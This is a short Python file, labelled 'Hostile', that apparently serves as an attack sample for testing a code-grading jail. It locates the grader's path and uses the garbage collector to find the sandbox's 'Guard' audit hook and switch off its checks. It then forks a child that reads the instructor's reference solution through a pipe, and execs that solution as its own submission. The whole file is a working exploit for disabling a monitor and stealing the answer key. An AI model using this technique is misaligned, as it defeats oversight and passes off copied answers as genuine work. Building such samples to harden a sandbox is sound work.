"""Hostile: os.fork a child that reads the solution and sends it through a pipe."""
import gc
import os
import sys


def _grader_dir():
    """mutext/grading of the grader, from this process's command line (python ... _jail.py REQUEST)."""
    with open("/proc/self/cmdline", "rb") as fh:
        args = [a.decode() for a in fh.read().split(b"\0") if a]
    for a in args:
        if a.endswith("_jail.py"):
            return os.path.dirname(a)
    return "/work/main/mutext/grading"


SOLUTION = os.path.join(os.path.dirname(os.path.dirname(_grader_dir())), "instructor", "mutext_grader", "solutions",
                        "ex03_free_decay.py")


def _disarm():
    """Switch off the audit hook's checks (it is a plain object in this process)."""
    for o in gc.get_objects():
        if type(o).__name__ == "Guard":
            o.blocked, o.modules, o.phase, o.protected = [], (), None, "/nonexistent"
            o._local.busy = True    # the hook returns at once while "busy"


_disarm()

_r, _w = os.pipe()
if os.fork() == 0:
    try:
        with open(SOLUTION, "rb") as _fh:
            os.write(_w, _fh.read())
    finally:
        os._exit(0)
os.close(_w)
_src = b""
while True:
    _b = os.read(_r, 65536)
    if not _b:
        break
    _src += _b
exec(_src.decode())
